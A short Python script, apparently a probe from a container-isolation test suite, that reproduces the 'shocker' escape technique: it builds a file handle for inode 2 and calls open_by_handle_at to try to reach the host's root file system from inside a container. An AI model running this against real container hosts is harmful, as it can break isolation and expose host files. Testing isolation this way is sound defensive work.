# Opens files of the host by the handles that its file system gives them, as "shocker" did: the root has inode 2.
import ctypes
import os
import struct
from attempt import attempt
from calls import syscall


class Handle(ctypes.Structure):
    _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128)]


def reopen(number):
    handle = Handle(8, 1)
    handle.bytes[:8] = struct.pack("=II", number, 0)
    return syscall("open_by_handle_at", place, ctypes.byref(handle), os.O_RDONLY)


def own():
    handle, mount = Handle(128, 0), ctypes.c_int()
    syscall("name_to_handle_at", -100, ctypes.c_char_p(b"."), ctypes.byref(handle), ctypes.byref(mount), 0)
    return syscall("open_by_handle_at", place, ctypes.byref(handle), os.O_RDONLY)


place = os.open(".", os.O_RDONLY)
attempt("the root's handle", lambda: reopen(2))
attempt("its own handle", own)
